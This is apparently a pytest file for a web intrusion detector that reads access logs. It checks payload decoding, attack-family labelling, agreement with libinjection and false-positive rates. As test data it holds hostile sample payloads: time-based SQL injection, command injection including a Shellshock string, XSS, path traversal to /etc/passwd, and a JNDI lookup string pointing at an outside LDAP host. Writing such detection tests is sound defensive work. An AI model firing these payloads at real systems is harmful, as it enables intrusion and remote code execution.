"""Web request evidence: decoding, the issue's examples of every family, the parser-verdict
fields, libinjection agreement, and what the model reads of an access line."""

from __future__ import annotations

import base64
import random
from typing import ClassVar
from urllib.parse import quote

import libinjection
import numpy as np
import pytest

from classifiers.logs import payloads
from classifiers.logs.model import load_log_model
from classifiers.logs.scoring import LogScorer, model_text
from classifiers.logs.web_evaluation import normal_cases, read_web_attacks
from classifiers.parsing import ParseFailure, parse
from classifiers.web.decode import decoded_forms, url_decoded
from classifiers.web.evidence import find, judge
from classifiers.web.view import masked_query

#: Normal parameter values that alerted on real traffic (issue 16).
ISSUE_NORMAL = (
    "gastn",
    "smith-ryg8@lingotes.com.br",
    "pavn taracena",
    "c/ pedro hidalgo, 137, 9?g",
)
#: Attacks the model missed on real traffic (issue 16), with their family.
ISSUE_ATTACKS = (
    ("sqli", "1')) and 2388=benchmark(5000000,md5(0x6d457153))#"),
    ("sqli", '1");(select * from (select(sleep(5)))acdk)#'),
    ("command_injection", "`uname`"),
    ("command_injection", "|nid"),
    ("xss", "<img id=xss src='javascript:alert('xss')"),
    ("path_traversal", "....web-infweb.xml"),
)


def access_line(value: str, name: str = "id") -> str:
    """``value`` URL-encoded as a parameter of an nginx combined access line."""
    return (
        '203.0.113.9 - - [04/Dec/2026:10:00:00 +0000] "GET /tienda1/publico/anadir.jsp?'
        f'{name}={quote(value, safe="")}&B1=Entrar HTTP/1.1" 200 512 "-" '
        '"Mozilla/5.0 (Windows NT 10.0; Win64; x64)"'
    )


def parsed(line: str) -> dict:
    event = parse(line)
    assert not isinstance(event, ParseFailure), event
    return event


@pytest.mark.parametrize("value", ISSUE_NORMAL)
def test_issue_normal_values_carry_no_evidence(value: str) -> None:
    event = parsed(access_line(value))
    assert find(event) is None
    assert event["logwarden"]["checked"] == ["intrusion_attempt"]
    assert "parser" not in event["logwarden"]
    assert "rule" not in event and "threat" not in event


@pytest.mark.parametrize(("family", "value"), ISSUE_ATTACKS)
def test_issue_attacks_pin_intrusion_with_their_family(family: str, value: str) -> None:
    event = parsed(access_line(value))
    verdict = event["logwarden"]["parser"]
    assert (verdict["label"], verdict["alert"], event["event"]["severity"]) == (
        "intrusion_attempt",
        True,
        73,
    )
    assert event["logwarden"]["web"]["family"] == family
    assert event["logwarden"]["web"]["field"] == "url.query.id"
    assert event["rule"]["id"] == f"logwarden-web-{family}"
    assert event["rule"]["name"].startswith("Web ")
    assert event["threat"]["technique"] == {
        "id": ["T1190"],
        "name": ["Exploit Public-Facing Application"],
    }
    assert event["threat"]["tactic"] == {"id": ["TA0001"], "name": ["Initial Access"]}


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("%2527%20OR%201%3D1--", "' OR 1=1--"),  # double URL encoding
        ("%25253Cscript%25253E", "<script>"),  # triple
        ("a+b%20c", "a b c"),
        ("%c0%ae%c0%ae/etc", "../etc"),  # overlong UTF-8 dots
    ],
)
def test_url_decoding_until_stable(raw: str, decoded: str) -> None:
    assert url_decoded(raw) == decoded


def test_html_entities_and_base64_are_judged_decoded() -> None:
    assert "<script>alert(1)</script>" in decoded_forms("&lt;script&gt;alert(1)&lt;/script&gt;")
    hidden = base64.b64encode(b"' OR 1=1 -- ").decode()
    assert judge(hidden) is not None
    assert judge(quote(hidden, safe="")) is not None
    # A token that is base64 of bytes, not text, is no evidence.
    assert judge(base64.b64encode(bytes(range(200, 224))).decode()) is None


def test_every_inspected_field_is_judged() -> None:
    body = '{"user": {"name": "ana", "bio": "<svg onload=alert(1)>"}}'
    event = {"url": {"path": "/api/profile"}, "http": {"request": {"body": {"content": body}}}}
    finding = find(event)
    assert finding is not None and finding.field == "http.request.body.content.user.bio"
    agent = {"url": {"path": "/"}, "user_agent": {"original": "${jndi:ldap://198.51.100.7/a}"}}
    assert find(agent) is not None and find(agent).family.id == "jndi"  # type: ignore[union-attr]
    shock = {"url": {"path": "/cgi-bin/status"}, "user_agent": {"original": "() { :;}; /bin/id"}}
    assert find(shock).family.id == "command_injection"  # type: ignore[union-attr]
    referrer = {
        "url": {"path": "/"},
        "http": {"request": {"referrer": "https://x.example/?q=%27%20or%201%3D1--"}},
    }
    assert find(referrer).field == "http.request.referrer.q"  # type: ignore[union-attr]
    path = parsed(
        access_line("1").replace("/tienda1/publico/anadir.jsp", "/static/..%2f..%2f..%2fetc/passwd")
    )
    assert path["logwarden"]["web"]["field"] == "url.path"


def test_evidence_agrees_with_libinjection_on_every_value_it_flags() -> None:
    flagged = [
        case.value
        for case in read_web_attacks()
        if libinjection.is_sql_injection(case.value)["is_sqli"]
        or libinjection.is_xss(case.value)["is_xss"]
    ]
    assert len(flagged) > 50
    assert [value for value in flagged if judge(quote(value, safe="")) is None] == []


def test_other_locale_normal_requests_carry_almost_no_evidence() -> None:
    forms = normal_cases(600, seed=7)
    hits = [
        value for form in forms for _, value in form if judge(quote(value, safe="")) is not None
    ]
    values = sum(len(form) for form in forms)
    assert len(hits) / values <= 0.002, hits


def test_model_reads_ordinary_values_masked_and_others_decoded() -> None:
    assert masked_query("id=gastn&mail=smith-ryg8%40lingotes.com.br&q=pavn+taracena") == (
        "id=<*>&mail=<*>&q=<*>"
    )
    assert masked_query("a=O%27Brien&b=..%2Fx&c") == "a=O'Brien&b=../x&c"
    event = parsed(access_line("c/ pedro hidalgo, 137, 9?g"))
    assert "anadir.jsp?id=<*>&B1=<*> HTTP" in model_text(event)


def test_scorer_keeps_a_pinned_label_and_leaves_the_cached_prediction_alone() -> None:
    class Benign:
        name, version, label_names = "stub", "0", ("benign", "intrusion_attempt")

        def predict_proba(self, texts: list[str]) -> np.ndarray:
            return np.tile(np.array([[0.99, 0.01]], dtype=np.float32), (len(texts), 1))

    scorer = LogScorer(Benign())  # type: ignore[arg-type]
    attack, normal = parsed(access_line("|nid")), parsed(access_line("gastn"))
    scores = scorer.score_batch([attack, normal, attack])
    assert [s.label for s in scores] == ["intrusion_attempt", "benign", "intrusion_attempt"]
    assert scores[0].alert and scores[0].risk_score >= 47
    assert scores[0].explanation[0].startswith("Web command injection attempt")
    assert not scores[1].alert
    # A pinned event and an unpinned one with the same model text: the pin must not leak
    # into the cached prediction both share.
    pinned = parsed(access_line("gastn"))
    pinned["logwarden"]["parser"] = {"label": "intrusion_attempt"}
    assert model_text(pinned) == model_text(normal)
    first, second = scorer.score_batch([pinned, normal])
    assert (first.label, second.label) == ("intrusion_attempt", "benign")
    assert scorer.score_batch([normal])[0].label == "benign"


def _request(target: str) -> dict:
    path, _, query = target.partition("?")
    return {"url": {"path": path, "query": query}} if query else {"url": {"path": path}}


def test_generator_normal_requests_carry_no_evidence_and_its_attacks_do() -> None:
    rng = random.Random(5)
    normal = [payloads.benign_path(rng) for _ in range(500)]
    assert [t for t in normal if find(_request(t)) is not None] == []
    for family in (
        payloads.sql_injection,
        payloads.cross_site_scripting,
        payloads.path_traversal,
        payloads.command_injection,
        payloads.server_side_request_forgery,
    ):
        attacks = [family(rng) for _ in range(200)]
        missed = [t for t in attacks if find(_request(t)) is None]
        assert len(missed) <= 4, (family.__name__, missed)


def test_shipped_model_leaves_the_issue_normal_requests_benign() -> None:
    scorer = LogScorer(load_log_model())
    scores = scorer.score_batch([parsed(access_line(value)) for value in ISSUE_NORMAL])
    assert [s.label for s in scores] == ["benign"] * len(ISSUE_NORMAL)


@pytest.mark.parametrize(("vote", "label"), [(0.7, "benign"), (0.95, "intrusion_attempt")])
def test_model_intrusion_vote_without_evidence_needs_its_precision_threshold(
    vote: float, label: str
) -> None:
    class Voting:
        name, version, label_names = "stub", "0", ("benign", "intrusion_attempt")
        thresholds: ClassVar[dict[str, float]] = {"benign": 0.5, "intrusion_attempt": 0.9}

        def predict_proba(self, texts: list[str]) -> np.ndarray:
            return np.tile(np.array([[1 - vote, vote]], dtype=np.float32), (len(texts), 1))

    scorer = LogScorer(Voting())  # type: ignore[arg-type]
    checked = parsed(access_line("gastn"))
    unchecked = {"message": "some line the web evidence never saw"}
    first, second = scorer.score_batch([checked, unchecked])
    assert first.label == label and first.alert == (label != "benign")
    assert second.label == "intrusion_attempt"  # no parser looked: the model's vote stands
